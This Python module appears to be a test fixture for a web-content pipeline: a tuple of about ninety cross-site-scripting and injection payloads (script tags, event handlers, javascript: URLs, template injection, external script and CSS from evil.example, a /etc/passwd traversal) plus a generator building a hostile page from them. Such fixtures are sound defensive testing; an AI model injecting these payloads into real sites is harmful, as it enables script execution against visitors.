"""Texts that try to become markup, script, style, an address or an attribute wherever a page shows them."""

import json
from collections.abc import Iterator

from pipeline import Source

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script\x0c>alert(1)</script\x0c>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "\x00<script>\x00alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=`x` onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "\"><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<form action=javascript:alert(1)><button>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "<div style=background:url(//evil.example/z)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%0ajavascript:alert(1)",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${alert(1)}#{alert(1)}`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028alert(1)\u2029//",
    "\"];alert(1);//",
    "');alert(1);//",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<x\u202eonclick=alert(1)>",
    "../../../../etc/passwd<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '" autofocus onfocus="alert(1)',
    "</template><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ alert(1) }}",
    "{% raw %}{{7*7}}",
    "${alert(1)}",
    "\u202e<script>alert(1)</script>",
)


def hostile_pages() -> Iterator[Source]:
    """Payloads as text, attributes, JSON-LD and meta tags, in files and under addresses that are payloads too."""
    escaped = [payload.replace("<", "&lt;") for payload in PAYLOADS]
    items = "".join(f"<h2 title={json.dumps(one)}>{one}</h2><p>Director: {one}</p>" for one in escaped)
    made = json.dumps({"@type": "Movie", "name": PAYLOADS[0], "director": {"name": PAYLOADS[15]}, "url": PAYLOADS[47]})
    linked = made.replace("</", "<\\/")
    page = (
        f"<html><head><title>{escaped[9]}</title><meta property='og:title' content='{PAYLOADS[24]}'>"
        f"<script type='application/ld+json'>{linked}</script></head><body>{items}</body></html>"
    )
    for name in ("<img src=x onerror=alert(1)>.html", "\"><svg onload=alert(1)>.html"):
        yield Source.of(page.encode("utf-8", "replace"), path=name, uri=f"https://e.example/{name}")
